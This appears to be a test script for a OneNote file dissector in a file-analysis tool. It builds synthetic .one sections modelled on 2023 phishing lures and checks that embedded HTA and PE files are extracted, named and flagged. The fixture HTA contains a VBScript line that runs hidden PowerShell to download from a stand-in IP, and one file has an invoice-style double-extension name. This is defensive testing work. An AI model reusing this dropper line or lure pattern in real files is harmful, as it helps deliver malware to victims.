# OneNote dissector: sections built at test time ([MS-ONESTORE] header
# GUID, FileDataStoreObjects holding an .hta and a small PE as the 2023
# phishing .one files did, padding and footers) give their embedded files
# as onenote-file children, byte for byte; named from the revision store's
# file node lists; a cut object and a .onetoc2.
# SPDX-License-Identifier: Apache-2.0
. "$ART_SOURCE_DIR/tests/cli/lib.sh"
need jq /usr/bin/python3 sha256sum
S=$ART_BIN/art-surface
export XDG_CACHE_HOME=$T/cache

/usr/bin/python3 - "$T" <<'PY'
import hashlib, struct, sys, uuid
t = sys.argv[1]
ONE = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le
TOC2 = uuid.UUID("43FF2FA1-EFD9-4C76-9EE2-10EA5722765F").bytes_le
HDR = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
FTR = uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le
def fdso(data):
    pad = (-len(data)) % 8
    return HDR + struct.pack("<QIQ", len(data), 0, 0) + data + b"\0" * pad + FTR
hta = b'<html><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://198.51.100.20/p"</script></html>\n'
pe = b"MZ\x90\x00" + b"\x00" * 56 + bytes(range(256)) * 4
one = ONE + b"\0" * 1008 + b"revision store data" + fdso(hta) + b"\x11" * 100 + fdso(pe) + b"\0" * 64
open(t + "/lure.one", "wb").write(one)
open(t + "/ref.tsv", "w").write("".join(hashlib.sha256(x).hexdigest() + "\n" for x in (hta, pe)))
cut = one[: one.index(pe) + 100]
open(t + "/cut.one", "wb").write(cut)
open(t + "/toc.onetoc2", "wb").write(TOC2 + b"\0" * 2000)

# A section whose revision store names its files ([MS-ONESTORE] 2.4, 2.5,
# 2.6, 2.7), a whole tree from the header's fcrFileNodeListRoot (root list,
# object space manifest, revision manifest, file data store list) that
# pyOneNote reads too (checked when this was written: it names file A the
# same; for file B it takes the first ObjectID of the stream for every
# ObjectID property, so it finds no name): two object group lists, each
# with its global ID table; the
# file data objects declared in list 0x10 (ObjectDeclarationFileData3-
# RefCountFND: "<ifndf>{GUID}" and the extension); the embedded-file nodes
# (jcidEmbeddedFileNode property sets, EmbeddedFileContainer and the UTF-16
# EmbeddedFileName) one in list 0x10, one in list 0x11 whose table gives
# the same GUID another index; FileDataStoreObjectReferenceFND pairing
# each FileDataStoreObject with its GUID. The files are stored in the
# opposite order of their declarations, so only the references name them.
def node(fid, body, stpf=0, cbf=0, base=0):
    size = 4 + len(body)
    return struct.pack("<I", fid | size << 10 | stpf << 23 | cbf << 25 | base << 27) + body
def ref32(stp, cb):  # StpFormat 1, CbFormat 0: two uncompressed 32-bit values
    return struct.pack("<II", stp, cb)
def cid(n, index):
    return struct.pack("<I", n | index << 8)
def wz(text):
    b = text.encode("utf-16-le")
    return struct.pack("<I", len(b) // 2) + b
def fragment(list_id, nodes):
    body = struct.pack("<QII", 0xA4567AB1F5F7F4C4, list_id, 0) + b"".join(nodes) + node(0xFF, b"")
    return body + struct.pack("<QI", 0xFFFFFFFFFFFFFFFF, 0) + struct.pack("<Q", 0x8BC215C38233BA4B)
def propset(oids, props):  # props: (prid, data bytes)
    s = struct.pack("<I", len(oids) | 1 << 31) + b"".join(oids)
    s += struct.pack("<H", len(props)) + b"".join(struct.pack("<I", p) for p, _ in props)
    return s + b"".join(d for _, d in props)
G0, G1, G9 = (uuid.UUID(int=0x1111 * (i + 1)).bytes_le for i in range(3))
FA, FB = uuid.UUID("{6A3AB5C1-0F2E-4C5B-9D47-1E6C2A8B9F01}"), uuid.UUID("{0B7E4C2D-93A1-4F6E-8C15-D2E9B3A7C640}")
NAME_A, NAME_B = "請求書_2024.pdf.exe", "ご確認ください.hta"
def wzdata(text):
    b = text.encode("utf-16-le") + b"\0\0"
    return struct.pack("<I", len(b)) + b
XG = lambda g, n: g + struct.pack("<I", n)  # ExtendedGUID
GOSID, RID = uuid.UUID(int=0x5050).bytes_le, uuid.UUID(int=0x6060).bytes_le
def build(at):
    # AT: where the pieces went on the previous pass (their offsets only
    # depend on the sizes, which do not change from one pass to the next)
    setA = propset([cid(5, 1)], [(0x1C001D9C, wzdata(NAME_A)), (0x20001D9B, b""), (0x14001C1F, b"\1\0\0\0")])
    # another ObjectID and an ArrayOfObjectIDs before the container: the
    # container is the third ID of the stream, found by its position
    setB = propset([cid(1, 4), cid(2, 4), cid(6, 3)],
                   [(0x20001C20, b""), (0x24001C21, struct.pack("<I", 1)), (0x20001D9B, b""),
                    (0x1C001D9C, wzdata(NAME_B))])
    r = lambda k: ref32(*at.get(k, (0, 0)))
    lists = {}
    lists["root"] = fragment(0x01, [
        node(0x004, XG(GOSID, 1)),
        node(0x008, r("osm") + XG(GOSID, 1), 1, 0, 2),
        node(0x090, r("fds"), 1, 0, 2)])
    lists["osm"] = fragment(0x02, [node(0x00C, XG(GOSID, 1)), node(0x010, r("rml"), 1, 0, 2)])
    lists["rml"] = fragment(0x03, [
        node(0x014, XG(GOSID, 1) + struct.pack("<I", 0)),
        node(0x01E, XG(RID, 1) + XG(b"\0" * 16, 0) + struct.pack("<IH", 1, 0)),
        node(0x0B0, r("l10") + XG(G0, 1), 1, 0, 2),
        node(0x0B0, r("l11") + XG(G0, 2), 1, 0, 2),
        node(0x01C, b"")])
    lists["l10"] = fragment(0x10, [
        node(0x022, b""),
        node(0x024, struct.pack("<I", 0) + G0), node(0x024, struct.pack("<I", 1) + G1),
        node(0x028, b""),
        node(0x072, cid(5, 1) + struct.pack("<IB", 0x00080001, 1) + wz("<ifndf>{%s}" % FA) + wz(".exe")),
        node(0x072, cid(6, 1) + struct.pack("<IB", 0x00080001, 1) + wz("<ifndf>{%s}" % str(FB).upper()) + wz(".hta")),
        node(0x0A4, r("setA") + cid(7, 0) + struct.pack("<IBB", 0x00060035, 1, 1), 1, 0, 1)])
    lists["l11"] = fragment(0x11, [
        node(0x022, b""),
        node(0x024, struct.pack("<I", 3) + G1), node(0x024, struct.pack("<I", 4) + G9),
        node(0x028, b""),
        node(0x0A4, r("setB") + cid(8, 4) + struct.pack("<IBB", 0x00060035, 1, 1), 1, 0, 1)])
    lists["fds"] = fragment(0x04, [
        node(0x094, r("fdA") + FA.bytes_le, 1, 0, 1),
        node(0x094, r("fdB") + FB.bytes_le, 1, 0, 1)])
    head = bytearray(ONE + b"\0" * 1008)
    head[48:64] = uuid.UUID("{109ADD3F-911B-49F5-A5D0-1791EDC8AED8}").bytes_le  # guidFileFormat
    head[172:184] = struct.pack("<QI", *at.get("root", (0, 0)))  # fcrFileNodeListRoot
    out, pos = bytes(head), {}
    for k in ("root", "osm", "rml", "l10", "l11", "fds"):
        pos[k] = (len(out), len(lists[k])); out += lists[k]
    pos["setA"] = (len(out), len(setA)); out += setA
    pos["setB"] = (len(out), len(setB)); out += setB
    out += b"\0" * ((-len(out)) % 8)
    # the files in the opposite order of their declarations
    pos["fdB"] = (len(out), len(fdso(pe))); out += fdso(pe)
    pos["fdA"] = (len(out), len(fdso(hta))); out += fdso(hta)
    return out, pos
layout = {}
for _ in range(3):
    one, layout = build(layout)
open(t + "/named.one", "wb").write(one)
# the hta is file A (named NAME_A) and the PE file B, as the references say
open(t + "/named.ref", "w").write("%s\t%s\t.hta\n%s\t%s\t.exe\n" % (
    hashlib.sha256(pe).hexdigest(), NAME_B, hashlib.sha256(hta).hexdigest(), NAME_A))
PY

"$S" --no-yara "$T/lure.one" "$T/toc.onetoc2" >"$T/our.jsonl"
jq -r 'select(.lineage.via == "onenote-file") | .hashes.sha256' "$T/our.jsonl" >"$T/our.tsv"
check "embedded files given byte for byte, in order (2)" diff "$T/ref.tsv" "$T/our.tsv"
check "summary: section, 2 files with offsets, sizes, footers; flagged" \
  test "$(jq -r 'select(.lineage.id == 0 and .name == "lure.one") | "\(.onenote.format) \(.onenote.file_count) \([.onenote.files[] | .footer] | all) \(.flags | index("onenote_embedded_file") != null)"' "$T/our.jsonl")" = \
  "section 2 true true"
check "children typed by content: HTML (the HTA) and an MZ executable" \
  test "$(jq -r 'select(.lineage.via == "onenote-file") | .type.mime' "$T/our.jsonl" | tr '\n' ' ')" = "text/html application/x-dosexec "
check "lineage: offset of the FileDataStoreObject" \
  test "$(jq -r 'select(.lineage.via == "onenote-file") | .lineage.onenote_offset' "$T/our.jsonl" | head -1)" = 1043
check "a table of contents without files: recognised, nothing yielded" \
  test "$(jq -r 'select(.name == "toc.onetoc2") | "\(.onenote.format) \(.onenote.file_count)"' "$T/our.jsonl")" = "toc 0"

"$S" --no-yara "$T/named.one" >"$T/named.jsonl"
check "named.one: each embedded file named as its embedded-file node says (UTF-16, Japanese), byte for byte" \
  diff <(sort "$T/named.ref") <(jq -r 'select(.lineage.via == "onenote-file") | "\(.hashes.sha256)\t\(.name)\t\(.lineage.onenote_offset)"' "$T/named.jsonl" | cut -f1,2 | paste - <(jq -r 'select(.lineage.id == 0) | .onenote.files[] | .extension' "$T/named.jsonl") | sort)
check "named.one: the summary lists name, extension and the name's flags" \
  test "$(jq -r 'select(.lineage.id == 0) | [.onenote.files[] | "\(.name)|\(.extension)|\(.name_flags | join(","))"] | join(" ")' "$T/named.jsonl")" = \
  "ご確認ください.hta|.hta| 請求書_2024.pdf.exe|.exe|double_extension"
check "named.one: the child named Invoice-like is flagged double_extension on its own record" \
  test "$(jq -r 'select(.lineage.via == "onenote-file" and .name == "請求書_2024.pdf.exe") | .flags | index("double_extension") != null' "$T/named.jsonl")" = true
# Against pyOneNote when a checkout is given (ART_PYONENOTE): the files it
# names (file A) carry the same name, and every file the same extension.
if [ -n "${ART_PYONENOTE:-}" ] && [ -d "$ART_PYONENOTE/pyOneNote" ]; then
  /usr/bin/python3 "$ART_SOURCE_DIR/tests/data/onenote/pyonenote_pairs.py" "$ART_PYONENOTE" "$T/named.one" >"$T/py.tsv"
  check "named.one: the names and extensions pyOneNote gives agree ($(awk -F'\t' '$2 != ""' "$T/py.tsv" | wc -l) named)" \
    bash -c "awk -F'\t' '\$2 != \"\"' '$T/py.tsv' | sort | comm -23 - <(sort '$T/named.ref') | grep -q . && exit 1; cut -f1,3 '$T/py.tsv' | sort | diff - <(cut -f1,3 '$T/named.ref' | sort)"
else
  echo "skip - pyOneNote comparison: set ART_PYONENOTE to a pyOneNote checkout"
fi
check "lure.one (no file node lists): children unnamed, as before" \
  test "$(jq -r 'select(.lineage.via == "onenote-file") | .name' "$T/our.jsonl" | sort -u | tr '\n' ' ')" = "onenote-file-1 onenote-file-2 "

expect_rc 0 "a cut section is examined" "$S" --no-yara -o "$T/cut.jsonl" "$T/cut.one"
check "cut: first file whole, second given cut and marked, error names the input" \
  test "$(jq -r 'select(.lineage.id == 0) | "\(.onenote.partial) \(.errors | map(select(test("cut.one: onenote: embedded file at offset [0-9]+ cut"))) | length)"' "$T/cut.jsonl") $(jq -r 'select(.lineage.via == "onenote-file") | .flags | index("truncated_by_dissector") != null' "$T/cut.jsonl" | tr '\n' ' ')" = \
  "true 1 false true "
finish
